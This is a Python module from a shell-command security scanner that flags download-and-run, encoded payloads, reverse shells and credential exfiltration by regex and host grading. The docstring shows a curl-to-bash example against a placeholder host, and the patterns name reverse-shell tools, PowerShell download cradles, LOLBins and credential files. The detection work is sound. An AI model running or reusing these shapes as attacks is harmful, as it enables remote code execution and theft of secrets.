"""One grader for a shell command line, wherever an agent would run one.

`grade_command(command) -> list[CommandFact]` reads one command line (a hook, an MCP launcher,
a status line, a task, a package script, a `!` line of a slash command, a line of a code block
in prose, a line of a shell script) and reports what it would do that a reviewer must see:

- download-and-run (`remote-exec`): a fetch piped or substituted into a shell or interpreter;
  `iex`/`[scriptblock]::Create` of a download; `python -c` / `node -e` / `ruby -e` / `perl -e` /
  `php -r` one-liners that fetch and evaluate; `deno run URL`; `npx`/`bunx`/`pnpm dlx`/`uvx`/
  `pipx run` of a URL or git ref; download, chmod and run.
- decode-and-run (`decode-exec`): base64/hex decoded into a shell or eval; `powershell -enc`.
- reverse shells (`reverse-shell`): `/dev/tcp` wired to a shell, `nc -e`, `socat exec:`,
  `openssl s_client` or `telnet` piped with a shell, python/perl/ruby/php socket one-liners.
- credentials reaching the network (`credential-exfil`): env dumps, `git credential fill`,
  `gh auth token`, keychain reads, cloud CLI tokens, credential files, secret variables reaching
  curl/wget data, URLs, `-K` configs or headers, DNS lookups, mail, ftp, raw sockets, public
  gists or paste services.

Severity of running what a URL serves is decided by its host (scanner/hosts.py, the one place
for host logic): a curated vendor installer over https is LOW; an unknown host is HIGH (so the
Action's default `fail-on: high` stops it); plain http, a raw IP address or a paste/relay
service is CRITICAL; a placeholder (example.com, localhost) is MEDIUM. See `grade_url`.

The grader never runs anything. Patterns are RE2 (linear time); tree-sitter-bash (through
shell.flow) adds what needs structure (variables, process substitution). Offsets in a
CommandFact are character offsets into the command string given.

Run unattended (`grade_command(cmd, unattended=True)`: hooks, status lines, credential helpers,
MCP launchers, folder-open tasks, lifecycle scripts; rules/mcp_supply.grade_launch is the
settings rules' entry), a command gets no discount for a placeholder host, a vendor installer
is medium, and three more shapes are reported: sending its input, history, files or command
output to a stranger (`host-data-exfil`), a secret spliced into a URL, and a package index on a
bare IP or look-alike host.

API for callers (settings rules, prose rules, scripts):
    facts = grade_command("curl -fsSL https://x.example/i.sh | bash")
    for f in facts: f.kind, f.severity, f.start, f.end, f.message, f.host, f.url, f.grade
    worst(facts) -> the most severe fact or None
    grade(command) -> (severity, message) of the worst fact at medium or above, else None
    grade_lines(text) -> grade_command over each candidate line of a longer text (offsets into text)
    grade_url(url) -> (severity of running what the URL serves, grade, host)
"""
from __future__ import annotations

from dataclasses import dataclass
from functools import lru_cache

from .. import hosts as H
from ..matching import rx
from ..models import Severity
from . import common as c
from . import fact_kinds as K
from .shell.base import _CRED_COMMAND, _CRED_COMMAND_VENDOR, credential_command_goes_home  # noqa: F401  (public here too)

MAX_COMMAND = 8000  # characters of one command line read (a longer one is read up to this)


@dataclass(frozen=True)
class CommandFact:
    kind: str  # one of scanner.scripts.common's kinds: remote-exec, decode-exec, reverse-shell, credential-exfil
    severity: Severity
    start: int  # character offsets into the command string
    end: int
    message: str
    host: str = ""
    url: str = ""
    grade: str = ""  # vendor | unknown | http | ip | paste | placeholder | local | none


# -- hosts --------------------------------------------------------------------------------------
_PLACEHOLDER = ("example.com", "example.org", "example.net")
_PLACEHOLDER_TLDS = (".example", ".test", ".invalid", ".localhost", ".local")


def grade_url(url: str) -> tuple[Severity, str, str]:
    """(severity of running what this URL serves, grade, host)."""
    if not url:
        return Severity.MEDIUM, "none", ""
    host = H.host_of(url)
    if not host:
        return Severity.MEDIUM, "none", ""
    if host in ("localhost", "0.0.0.0", "::1") or host.startswith("127."):
        return Severity.LOW, "local", host
    if H.is_ip(host):
        return Severity.CRITICAL, "ip", host
    if H.is_paste_or_relay(url):
        return Severity.CRITICAL, "paste", host
    # A host name of one label ("attacker", "server") resolves only on a local network's own
    # names: in a document it stands for whatever host the reader puts there.
    if H.host_in(host, _PLACEHOLDER) or host.endswith(_PLACEHOLDER_TLDS) or "<" in url or "your" in host \
            or ("." not in host and ":" not in host and not host.isdigit()):
        return Severity.MEDIUM, "placeholder", host
    if H.is_vendor_installer(url):
        return Severity.LOW, "vendor", host
    if url.strip().lower().startswith(("http://", "ftp://")):
        return Severity.CRITICAL, "http", host
    if H.look_alike_brand(host):
        return Severity.HIGH, "lookalike", host
    if host == "github.com" and _VERSIONED_RELEASE.test(url):
        return Severity.MEDIUM, "release", host  # a project's own versioned release asset: pinned, reviewable
    return Severity.HIGH, "unknown", host


_VERSIONED_RELEASE = rx(r"(?i)^https://github\.com/[\w.-]+/[\w.-]+/releases/download/v?(?:\d|\$\{?\w)[^/\s]*/")
_GRADE_WORDS = {"lookalike": "look-alike of a well-known vendor's host", "release": "versioned GitHub release asset", "repository": "public repository, unpinned", "vendor": "well-known vendor installer", "unknown": "unknown host", "http": "unknown host over plain http",
                "ip": "raw IP address", "paste": "paste or relay service", "placeholder": "placeholder host",
                "local": "local address", "none": "URL not literal"}


def grade_words(grade: str) -> str:
    return _GRADE_WORDS.get(grade, grade)


_URL = rx(r"(?i)\b(?:https?|ftp|wss?)://(?:[^\s'\"`<>)\]}|;$]|\$\{?\w+\}?)+")
_GIT_REF = rx(r"(?i)(?:\bgit\+(?:https?|ssh|git)://[^\s'\"`]+|\bgit@[\w.-]+:[^\s'\"`]+|\b(?:github|gitlab|bitbucket):[\w.-]+/[^\s'\"`]+)")


def _first_url(text: str) -> str:
    m = _URL.search(text.encode("utf-8", "surrogatepass"))
    return m.group(0).decode("utf-8", "replace") if m else ""


def _ref_url(ref: str) -> str:
    """A package-runner argument as a URL: `github:u/r` -> https://github.com/u/r."""
    low = ref.lower()
    for prefix, host in (("github:", "github.com"), ("gitlab:", "gitlab.com"), ("bitbucket:", "bitbucket.org")):
        if low.startswith(prefix):
            return f"https://{host}/{ref[len(prefix):]}"
    if low.startswith("git+"):
        return ref[4:]
    if low.startswith("git@"):
        host, _, path = ref[4:].partition(":")
        return f"https://{host}/{path}"
    return ref


# -- patterns -----------------------------------------------------------------------------------
_FETCH = r"(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|aria2c|lwp-request|lwp-download|xh|curlie|https?)"
# what may stand before the program: sudo, `env`, and plain assignments (`X=1 sh`, `BASH_ENV=/dev/stdin bash`)
_PRE = r"(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:-\S+\s+)*(?:\w+=\S*\s+)*)?(?:[a-z_]\w{0,40}=[^\s|;&]*\s+){0,4}(?:/usr/local/bin/|/usr/bin/|/bin/)?"
# a shell told to source its standard input on start, whatever its arguments say (`BASH_ENV=/dev/stdin bash -c true`)
_STARTUP_STDIN = rx(r"(?i)\b(?:BASH_ENV|ENV)=[\"']?/(?:dev/stdin|dev/fd/0|proc/self/fd/0)\b")
_INTERP = r"(?:(?:ba|z|k|da|fi|a)?sh|python[23]?(?:\.\d+)?|perl|ruby|node|nodejs|php|iex|invoke-expression|pwsh|powershell(?:\.exe)?|bun|deno|source)"

# A fetch piped into an interpreter; group 1 = the fetch's arguments, group 2 = the interpreter, group 3 = its arguments.
_SHELL_VAR = r"[\"']?(?:\$\{SHELL(?::-[\w/]+)?\}|\$SHELL\b|\$\{?BASH\}?\b)[\"']?"  # the user's shell by variable: `| ${SHELL:-sh}`
_PIPE = rx(r"(?i)\b" + _FETCH + r"\b([^\n|]*)\|(?:\s*(?:tee|cat|dd|gunzip|zcat|tr|sed)\b[^\n|]*\|)?\s*" + _PRE + r"(" + _INTERP + r"\b|" + _SHELL_VAR + r")([^\n|;&]*)")
# Any command carrying a URL piped into a shell: the fetch word itself may be built from variables
# (`c=cu; c+=rl; $c -fsSL URL | sh`), an alias or a function; group 1 = the URL-carrying command.
_PIPE_URL = rx(r"(?i)((?:^|[^\n|;&]*?[\s'\"=,])(?:https?|ftp)://[^\n|]*)\|\s*" + _PRE + r"((?:ba|z|k|da)?sh\b|" + _SHELL_VAR + r")([^\n|;&]*)")
_SUBST = rx(
    r"(?i)(?:(?:^|[\s;&|({`])(?:(?:ba|z|k|da)?sh|source|\.|python[23]?|node|perl|ruby|php|pwsh)\s+(?:-\S+\s+)*<\(\s*" + _PRE + _FETCH + r"\b[^\n)]*\)"
    r"|\b(?:(?:ba|z|k|da)?sh|source|\.|python[23]?|node|perl|ruby)\b[^\n]*<<<\s*[\"']?\$\(\s*" + _PRE + _FETCH + r"\b[^\n)]*\)"
    r"|\b(?:(?:ba|z|k|da)?sh|eval|exec|source|python[23]?|perl|ruby|node|php)\s+(?:-\S+\s+)*[\"']?(?:\$\(|`)\s*" + _PRE + _FETCH + r"\b[^\n)`]*[)`]"
    r"|\b(?:(?:ba|z|k|da)?sh)\s+-c\s+[\"']\s*" + _PRE + _FETCH + r"\b[^\n|\"']*\|\s*(?:ba|z|k|da)?sh\b)"
)
_PS_DOWNLOAD = r"(?:downloadstring|downloaddata|downloadfile|iwr|irm|invoke-webrequest|invoke-restmethod|net\.webclient|start-bitstransfer|httpclient)"
_PS_EXEC = rx(
    r"(?i)(?:\b(?:iex|invoke-expression)\b[^\n]*?\b" + _PS_DOWNLOAD + r"\b"
    r"|\b" + _PS_DOWNLOAD + r"\b[^\n]*?(?:\|\s*(?:iex|invoke-expression)\b|;\s*(?:iex|invoke-expression)\s+[\$(]|\[scriptblock\]::create|\binvoke-command\s+-scriptblock|\.invoke\(\))"
    r"|\[scriptblock\]::create\s*\([^\n]*?\b" + _PS_DOWNLOAD + r"\b)"
)
_DOWNLOAD_RUN = rx(
    r"(?i)\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n;|&]*\s(?:-[a-zA-Z]*[oO]|--output|--output-document|-outfile|>)\s*([^\s-]\S*)[^\n]*?(?:&&|;)\s*"
    r"(?:chmod\s+(?:\+x|[0-7]*[1357])\b[^\n]*?(?:&&|;)\s*(?:sudo\s+)?(?:\./|/|~/|\S+/)\S+|(?:sudo\s+)?(?:ba|z)?sh\s+\S+|(?:sudo\s+)?(?:env\s+)?(?:BASH_ENV|ENV)=\S+\s+(?:ba|z|k|da)?sh\b|(?:sudo\s+)?\./\S+|(?:sudo\s+)?(?:python[23]?|node|perl|ruby|pwsh|powershell)\s+\S+|&\s*\S+\.(?:ps1|exe|bat|cmd)|\.\\\S+|(?:call\s+|start\s+(?:\"\"\s+)?|start-process\s+)?\S+\.(?:bat|cmd|exe|ps1|msi)\b)"
)
_LOLBIN = rx(r"(?i)(?:\bmshta(?:\.exe)?\s+[\"']?(?:https?|vbscript|javascript):[^\s\"']*|\bregsvr32(?:\.exe)?\b[^\n]*?/i:\s*https?://[^\s\"']+|"
             r"\b(?:certutil(?:\.exe)?\b[^\n]*?-(?:urlcache|verifyctl)|bitsadmin(?:\.exe)?\b[^\n]*?/(?:transfer|addfile))\b[^\n]*?(?:https?|ftp)://[^\s\"']+"
             # what the download becomes is then run: a program or library file, or a system binary that loads one
             r"[^\n]*?(?:&&|;|&|\|\|)\s*(?:\"\s*)?(?:\S+\.(?:exe|bat|cmd|ps1|dll|vbs|js|hta|msi|scr)\b|(?:rundll32|regsvr32|mshta|wscript|cscript|msiexec|installutil|regasm|regsvcs|start|call|start-process)(?:\.exe)?\b))")
# A DNS lookup whose name splices a variable or a substitution in front of a fixed zone, and the
# encoders or input readers that make the command's data fit in a label.
_DNS_SPLICE = rx(r"(?i)\b(?:nslookup|dig|drill|host|resolvectl\s+query|resolve-dnsname)\s+(?:[-+]\S+\s+)*[\"']?((?:[^\s\"';|&]*(?:\$\{?\w+\}?|\$\([^)\n]{0,200}\)|`[^`\n]{0,200}`)[^\s\"';|&]*)+\.[a-z0-9-]+\.[a-z]{2,})")
_DNS_ENCODE = rx(r"(?i)\b(?:base32|base64|xxd|od\s+-|hexdump|basenc|tr\s+-d|cut\s+-c|fold\s+-w|split\s+-b|jq\b|cat\s*\||read\s+-r|\$\(cat\)|tobase64string|convertto-json)")
# A write into a shell's start-up file: `>> ~/.bashrc`, `tee -a "$HOME/.zshrc"`, `Add-Content $PROFILE`.
_RC_FILE = r"(?:~|\$HOME|\$\{HOME\}|\$\{ZDOTDIR[^}]{0,20}\}|\$ZDOTDIR)/\.(?:bashrc|zshrc|zshenv|zprofile|zlogin|bash_profile|bash_login|profile|kshrc|config/fish/config\.fish)\b"
_STARTUP_WRITE = rx(r"(?i)(?:>>?\s*[\"']?(" + _RC_FILE + r")|\b(?:tee\s+(?:-\S+\s+)*|add-content\s+(?:-path\s+)?|out-file\s+(?:-append\s+)?(?:-filepath\s+)?)[\"']?(" + _RC_FILE + r"|\$profile\b))")
_STARTUP_FETCH = rx(r"(?i)(?:\b(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod|aria2c|downloadstring)\b)")
_STARTUP_SOURCE = rx(r"(?:^|[\s'\";&|]|\\n)(?:\.|source)\s+[\"']?(?:/tmp/|/var/tmp/|/dev/shm/)")
# Go's module integrity switched off, the proxy a command names, and a remote module it builds.
_GO_UNVERIFIED = rx(r"(?i)(?:\bgosumdb\s*=\s*['\"]?off\b|\bgonosumcheck\s*=\s*['\"]?1|\bgonosumdb\s*=\s*['\"]?\*|\bgoinsecure\s*=\s*['\"]?\*|"
                    r"\bgoflags\s*=\s*['\"]?[^\s'\"]*-insecure|\bgo\s+env\s+-w\s+gosumdb=off)")
# The Go project's own module hosts (its toolchain), and the code hosts modules are fetched from.
_GO_TEAM_HOSTS = frozenset({"golang.org", "go.googlesource.com", "google.golang.org"})
_GO_CODE_HOSTS = ("github.com", "gitlab.com", "bitbucket.org", "gopkg.in", "k8s.io", "sigs.k8s.io", "go.uber.org", "go.opentelemetry.io",
                  "codeberg.org", *sorted(_GO_TEAM_HOSTS))
_GO_PROXY = rx(r"(?i)\bgoproxy\s*=\s*['\"]?([^\s|'\"]+)")
_GO_FETCH = rx(r"(?i)\bgo\s+(?:run|install|get)\s+(?:-\S+\s+)*([a-z0-9][\w-]*(?:\.[\w-]+)+/[^\s'\"@]*(?:@[^\s'\"]+)?)")
_INSTALL_URL = rx(r"(?i)(?:^|[\s;&|(\"'`])((?:sudo\s+)?(?:npm\s+(?:i|install|add)|pnpm\s+(?:add|i|install)|yarn\s+(?:global\s+)?add|bun\s+(?:add|install|i)|"
                  r"pip3?\s+install|python[23]?\s+-m\s+pip\s+install|uv\s+pip\s+install|pipx\s+install|uv\s+tool\s+install|gem\s+install|cargo\s+install))\b([^\n|;&]*)")
# One-liner interpreters: the code argument is read for a fetch and an evaluation.
_ONE_LINER = rx(r"(?i)\b(python[23]?(?:\.\d+)?|py|node|nodejs|bun|ruby|perl|php)(?:\.exe)?\b[^\n]*?\s(?:-c|-e|-E|-r|-p|--eval|--print)\b")
_LANG_FETCH = {
    "python": rx(r"(?i)(?:urlopen|urlretrieve|requests\s*\.\s*(?:get|post)|httpx|urllib|http\.client|aiohttp|pycurl)"),
    "node": rx(r"(?i)(?:\bfetch\s*\(|https?\s*\.\s*get\s*\(|require\s*\(\s*['\"]https?['\"]\s*\)|\baxios\b|\bgot\s*\(|\bundici\b)"),
    "ruby": rx(r"(?i)(?:open-uri|uri\s*\.\s*open|uri\s*\(|net::http|\bopen\s*\(\s*['\"]https?:|httparty|faraday)"),
    "perl": rx(r"(?i)(?:\blwp\b|lwp::|http::tiny|\bgetstore\b|\bget\s*\(\s*['\"]https?:|\bget\s+['\"]https?:)"),
    "php": rx(r"(?i)(?:file_get_contents\s*\(\s*['\"]https?:|curl_exec|fopen\s*\(\s*['\"]https?:|\bhttps?://)"),
}
_LANG_EXEC = {
    "python": rx(r"(?:\bexec\s*\(|\beval\s*\(|\bcompile\s*\(|\brunpy\b|exec_module)"),
    "node": rx(r"(?i)(?:\beval\b|new\s+function\b|\bfunction\s*\(\s*\w*\s*\)\s*\(|\bvm\s*\.|runinthiscontext|import\s*\(\s*['\"`]data:)"),
    "ruby": rx(r"(?:\beval\b|instance_eval|class_eval|module_eval|binding\.eval)"),
    "perl": rx(r"(?:\beval\b|\bdo\s*\()"),
    "php": rx(r"(?i)(?:\beval\s*\(|\binclude\s*\(?\s*['\"]https?:|\brequire\s*\(?\s*['\"]https?:|\bassert\s*\()"),
}
_LANG_SEND = {
    # (urlopen and Request take the request body as their second argument, named or not)
    "python": rx(r"(?:urlopen\s*\([^\n]*data\s*=|(?:urlopen|Request)\s*\(\s*(?:'[^'\n]*'|\"[^\"\n]*\"|[\w.]+)\s*,\s*(?:data\s*=\s*[^\s)]|[^\s)=A-Za-z_]|[A-Za-z_][\w.]*\s*[(\[,)])|"
                 r"requests\s*\.\s*(?:post|put)|httpx\s*\.\s*(?:post|put)|\.sendall?\s*\(|smtplib|ftplib|gethostbyname\s*\()"),
    "node": rx(r"(?i)(?:method\s*:\s*['\"]post|\bbody\s*:|https?\s*\.\s*request\s*\(|\.write\s*\(|dns\s*\.\s*(?:resolve|lookup))"),
    "ruby": rx(r"(?i)(?:net::http\s*\.\s*post|post_form|tcpsocket|net::smtp|\.puts\s*\()"),
    "perl": rx(r"(?i)(?:->\s*post\s*\(|io::socket|net::smtp|\bsend\s*\()"),
    "php": rx(r"(?i)(?:curlopt_postfields|fsockopen|\bmail\s*\(|stream_context_create)"),
}
# Not the sink table's credential names: what a one-liner's code text shows it reads (its environment whole, a few key folders).
_LANG_SECRETS = {
    "python": rx(r"(?:os\s*\.\s*environ\b(?:\s*\.\s*(?:items|copy)|\s*\)|\s*,)|dict\s*\(\s*os\s*\.\s*environ|\*\*\s*os\s*\.\s*environ\b|\.ssh/|\.aws/|\.netrc|\.npmrc|\.git-credentials|\.env['\"])"),
    "node": rx(r"(?:JSON\s*\.\s*stringify\s*\(\s*process\s*\.\s*env|\.\.\.\s*process\s*\.\s*env|process\s*\.\s*env\s*[,)}]|\.ssh/|\.aws/|\.netrc|\.npmrc)"),
    "ruby": rx(r"(?:ENV\s*\.\s*(?:to_h|to_a|inspect|map)|\.ssh/|\.aws/|\.netrc|\.npmrc)"),
    "perl": rx(r"(?:%ENV|\.ssh/|\.aws/|\.netrc|\.npmrc)"),
    "php": rx(r"(?i)(?:getenv\s*\(\s*\)|\$_ENV\b|\$_SERVER\b|\.ssh/|\.aws/|\.netrc)"),
}
# Text in a one-liner that reads like a send or an environment read and is neither, blanked before
# _LANG_SEND/_LANG_SECRETS look: a write to the process's own standard streams (`process.stdout.write(`,
# `$stderr.puts(`), and the environment handed on whole as a child process's environment
# (`spawnSync(x, args, {env: process.env})`, `subprocess.run(cmd, env=os.environ)`, `{env: {...process.env}}`),
# which is what a child gets when no environment is given. A socket's or a request's `.write(` and the
# environment serialised into a body stay.
_STD_STREAM_WRITE = rx(r"(?i)(?:\b(?:process|sys)\s*\.\s*|\$|\b)std(?:out|err)\s*\.\s*(?:write|puts|print)\s*\(")
_CHILD_ENV = rx(r"\benv\s*[:=]\s*(?:\{\s*(?:\.\.\.|\*\*)\s*|dict\s*\(\s*)?(?:process\s*\.\s*env|os\s*\.\s*environ)\b(?:\s*\.\s*copy\s*\(\s*\))?")


_CHILD_CALL = rx(r"(?:\bsubprocess\s*\.\s*\w+|\b(?:Popen|check_output|check_call|spawnSync|spawn|execSync|execFileSync|execFile|exec|fork|execa|execaSync))\s*\(")


def _in_child_call(seg: bytes, at: int) -> bool:
    """Is offset `at` inside the argument list of a child-process call (`spawnSync(a, b, {` ... `at`)?
    `JSON.stringify({env: process.env})` is not: there the environment is the data."""
    calls = [m.end() for m in _CHILD_CALL.finditer(seg[max(0, at - 400):at])]
    if not calls:
        return False
    between = seg[max(0, at - 400) + calls[-1]:at]
    return between.count(b"(") + 1 > between.count(b")")


def _blank_benign(seg: bytes) -> bytes:
    """`seg` with standard-stream writes and environments handed to a child process blanked (offsets kept)."""
    spans = [m.span() for m in _STD_STREAM_WRITE.finditer(seg)]
    spans += [m.span() for m in _CHILD_ENV.finditer(seg) if _in_child_call(seg, m.start())]
    if not spans:
        return seg
    out = bytearray(seg)
    for a, b in spans:
        out[a:b] = b" " * (b - a)
    return bytes(out)


_LANG_DECODE = {
    "python": rx(r"(?:b64decode|decodebytes|a2b_base64|unhexlify|fromhex|zlib\.decompress|codecs\.decode|marshal\.loads)"),
    "node": rx(r"(?i)(?:\batob\s*\(|buffer\.from\s*\([^)]*['\"](?:base64|hex)['\"])"),
    "ruby": rx(r"(?i)(?:base64\.decode64|unpack\s*\(?\s*['\"]m)"),
    "perl": rx(r"(?i)(?:decode_base64|pack\s*\(?\s*['\"]h)"),
    "php": rx(r"(?i)(?:base64_decode|gzinflate|str_rot13|hex2bin)"),
}
_LANG_SOCKET = {
    "python": (rx(r"\bsocket\b"), rx(r"(?:dup2|pty\.spawn|subprocess|/bin/(?:ba)?sh|os\.system|popen)")),
    "node": (rx(r"(?i)(?:net\s*\.\s*(?:socket|connect|createconnection)|require\s*\(\s*['\"]net['\"]\s*\))"), rx(r"(?i)(?:child_process|spawn\s*\(|/bin/(?:ba)?sh|cmd\.exe)")),
    "ruby": (rx(r"(?i)(?:tcpsocket|socket\.new|-rsocket)"), rx(r"(?i)(?:\bexec\b|\bspawn\b|/bin/(?:ba)?sh|\bsystem\b|popen|io\.popen)")),
    "perl": (rx(r"(?i)(?:\bsocket\s*\(|io::socket|-msocket)"), rx(r"(?i)(?:\bexec\b|/bin/(?:ba)?sh|\bsystem\b|open\s*\(\s*std)")),
    "php": (rx(r"(?i)(?:fsockopen|socket_create|stream_socket_client)"), rx(r"(?i)(?:\bexec\s*\(|shell_exec|proc_open|\bsystem\s*\(|passthru|popen|/bin/(?:ba)?sh)")),
}
_RUNNER = rx(r"(?i)(?:^|[\s;&|(\"'`])(npx|bunx|pnpx|pnpm\s+dlx|yarn\s+dlx|npm\s+exec|npm\s+x|uvx|pipx\s+run|uv\s+tool\s+run|uv\s+run|deno\s+(?:run|install|eval|serve|x)|bun\s+(?:run|x))\b([^\n|;&]*)")
_DECODE = rx(
    r"(?i)(?:\b(?:base64|base32)\s+(?:-\w*d\w*|--decode|-D)\b[^\n]*?\|\s*" + _PRE + r"(?:(?:ba|z|k|da)?sh|python[23]?|perl|ruby|node|php|iex|pwsh|powershell|eval|source)\b"
    r"|\b(?:(?:ba|z|k|da)?sh|eval|source)\s+(?:-c\s+)?[\"']?\$\(\s*(?:echo|printf|cat)\s[^\n)]*\|\s*(?:base64|base32|xxd)\s+-\w*[dr]"
    # `bash <<< "$(base64 -d <<< '...')"`, `sh -c "$(base64 --decode <<< ...)"`, `eval "$(xxd -r -p <<< ...)"`
    r"|\b(?:(?:ba|z|k|da)?sh|eval|source|python[23]?|perl|ruby|node)\s+(?:-\w+\s+)*(?:<<<\s*)?[\"']?\$\(\s*(?:base64|base32|xxd|openssl\s+(?:base64|enc))\s+[^\n)]*?(?:-\w*[dDr]\w*|--decode)\b"
    r"|\bxxd\s+-r\s+-?p?\b[^\n]*?\|\s*" + _PRE + r"(?:(?:ba|z|k|da)?sh|python[23]?|perl)\b"
    r"|\bprintf\s+[\"']?(?:\\x[0-9a-f]{2}){6,}[^\n]*?\|\s*" + _PRE + r"(?:(?:ba|z|k|da)?sh|python[23]?|perl)\b"
    r"|\b(?:openssl\s+(?:base64|enc)\s[^\n|]*-d|uudecode|gunzip\s+-c|zcat)\b[^\n]*?\|\s*" + _PRE + r"(?:(?:ba|z|k|da)?sh|python[23]?|perl)\b"
    r"|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*?\s-(?:e|ec|en|enc|enco|encodedcommand)\s+[a-z0-9+/=]{20,}"
    r"|\bfrombase64string\b[^\n]*?\b(?:iex|invoke-expression|\[scriptblock\]::create)|\b(?:iex|invoke-expression)\b[^\n]*?\bfrombase64string\b)"
)
# Text spelled as printf/echo escapes (octal `\\050`, hex `\\x28`) or ANSI-C `$'...'` quoting and handed to
# eval, `sh -c`, source or a shell's standard input: the command is hidden from a reader and
# rebuilt at run time. Group 1 is the run of escapes, decoded and graded in its own right.
_ESC = r"(?:\\(?:[0-7]{1,3}|x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{4}))"
_ESCAPED_RUN = rx(
    r"(?i)(?:\b(?:eval|source|(?:ba|z|k|da)?sh\s+-c)\s+[\"']?\$\(\s*(?:printf|echo\s+-e|echo\s+\$|print)\s+(?:--\s+)?[\"'$]*(" + _ESC + r"{6,}[^\"'\n)]*)"
    r"|\b(?:eval|source|(?:ba|z|k|da)?sh\s+-c)\s+\$'(" + _ESC + r"{6,}[^'\n]*)'"
    r"|\b(?:printf|echo\s+-e)\s+[\"'$]*(" + _ESC + r"{6,}[^\"'\n|]*)[\"']?\s*\|\s*" + _PRE + r"(?:(?:ba|z|k|da)?sh|python[23]?|perl|ruby|node)\b)"
)
_PEER = rx(r"(?i)(?:peeraddr\s*=>\s*|peerhost\s*=>\s*|connect\s*\(\s*\(?|tcpsocket\.new\s*\(\s*|fsockopen\s*\(\s*|createconnection\s*\([^)]*host\s*:\s*|net\.connect\s*\(\s*\d+\s*,\s*)[\\\"']*([a-z0-9][\w.-]*\.[a-z]{2,}|\d+\.\d+\.\d+\.\d+)")
# An exclusion option just before a path (`--exclude '.env'`, `--exclude=*.key`, `zip -x .env`, rclone's
# `--filter "- .env"`): what follows is left out of what a copy or archive sends.
_EXCLUDED_BEFORE = rx(r"(?i)(?:\s--(?:exclude(?:-dir)?|ignore(?:-pattern)?|skip)|\s-x|\s--filter)(?:=|\s+)[\"']?(?:-\s+)?[\"']?$")
_B64_LITERAL = rx(r"([A-Za-z0-9+/]{16,}={0,2})")
# Reverse shells.
_DEV_TCP = rx(r"(?i)/dev/(?:tcp|udp)/[^\s/]+/\S+")
_DEV_TCP_SHELL = rx(r"(?i)(?:\b(?:ba|z|k|da)?sh\s+-i\b|0>&1|0<&\d|>&\s*/dev/tcp|<&\s*\d|\bexec\s+\d*<>|\bwhile\s+read\b|\beval\b|\$\(\s*cat\s*<&)")
_NC_EXEC = rx(r"(?i)\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^\n|;&]*\s(?:-e|-c|--exec|--sh-exec|--lua-exec)\s")
_PIPE_SHELL_NET = rx(
    r"(?i)(?:(?:^|[\s|;&(`])(?:/bin/|/usr/bin/)?(?:ba|z|k|da)?sh(?:\s+-i)?\b[^\n|]*\|\s*" + _PRE + r"(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b"
    r"|\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s[^\n|]*\|\s*" + _PRE + r"(?:/bin/|/usr/bin/)?(?:ba|z|k|da)?sh\b(?:\s+-i)?(?:\s*2>&1)?(?:\s*[|>])?)"
)
_FIFO = rx(r"(?i)\bmkfifo\b[^\n]*\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b")
_SHELL_WORD = rx(r"(?i)(?:^|[\s|;&(])(?:/bin/)?(?:ba|z|k|da)?sh\b")
_FIFO_PATH = rx(r"(?i)\bmkfifo\s+(?:-m\s+\S+\s+)?['\"]?([^\s'\";&|]+)")
_SOCAT = rx(r"(?i)\bsocat\b[^\n]*\b(?:exec|system):[^\n]*?(?:tcp|ssl|openssl|udp)|\bsocat\b[^\n]*\b(?:tcp|ssl|openssl|udp)[^\n]*?\b(?:exec|system):")
_AWK_INET = rx(r"(?i)/inet/tcp/\d+/[^\s/]+/\d+[^\n]*(?:getline|\|&)")
_PS_REVERSE = rx(r"(?i)net\.sockets\.tcpclient\b[^\n]*?(?:getstream|iex|invoke-expression)")

_ENV_DUMP = rx(
    r"(?i)(?:(?:^|[|;&(`]|\$\()\s*(?:(?:env|printenv)\s*(?:$|[|)`>;&])|(?:set|export\s+-p|declare\s+-x)\s*\|)"
    r"|\b(?:get-childitem|gci|dir|ls)\s+env:|\[environment\]::getenvironmentvariables|\bos\.environ\b|process\.env\s*[)}\]]|json\.stringify\s*\(\s*process\.env)"
)
_SECRET_VAR = rx(r"(?:\$\{?([A-Za-z_][A-Za-z0-9_]*)|\$env:([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%)")
_PATHLIKE = rx(r"(?:~|\$HOME|\$\{HOME\}|\$env:USERPROFILE|%USERPROFILE%|/)[^\s'\"`|;&<>()]*|\.env(?:\.\w+)?\b|[\w.-]*credentials[\w.-]*")
# Network sinks: (pattern, what it is).
_CMD_POS = r"(?:^|[|;&(`{]|\$\()\s*(?:(?:sudo|exec|command|time|nohup|then|do)\s+(?:-\S+\s+)*)?"
_SINKS = (
    (rx(r"(?i)\b(?:curl|wget|xh|curlie|invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n|;&]*|" + _CMD_POS + r"https?\s[^\n|;&]*"), "http"),
    (rx(r"(?i)(?:\b(?:dig|nslookup|drill|resolvectl\s+query|resolve-dnsname)\s|" + _CMD_POS + r"host\s)[^\n|;&]*"), "dns"),
    (rx(r"(?i)(?:\b(?:sendmail|mutt|swaks|send-mailmessage|msmtp)\b|" + _CMD_POS + r"mailx?\s)[^\n|;&]*"), "mail"),
    (rx(r"(?i)(?:\b(?:lftp|tftp|ncftpput)\b|" + _CMD_POS + r"ftp\s)[^\n|;&]*"), "ftp"),
    (rx(r"(?i)\b(?:nc|ncat|netcat|telnet|socat|openssl\s+s_client)\b[^\n|;&]*"), "socket"),
    (rx(r"(?i)\bgh\s+gist\s+create\b[^\n|;&]*"), "gist"),
    # an issue, pull request, discussion or release text posted to a forge (any repository: `--repo` picks a stranger's)
    (rx(r"(?i)\b(?:gh|glab)\s+(?:issue|pr|mr|release|discussion)\s+(?:comment|create|edit|note|upload)\b[^\n|;&]*"), "forge post"),
    (rx(r"(?i)\b(?:scp|rsync|sftp)\b[^\n|;&]*\s[\w.@-]+:[^\n|;&]*"), "copy"),
    (rx(r"(?i)\b(?:aws\s+s3\s+(?:cp|sync|mv)|gsutil\s+(?:cp|rsync)|rclone\s+(?:copy|sync|move)|az\s+storage\s+blob\s+upload|smbclient)\b[^\n|;&]*"), "copy"),
)
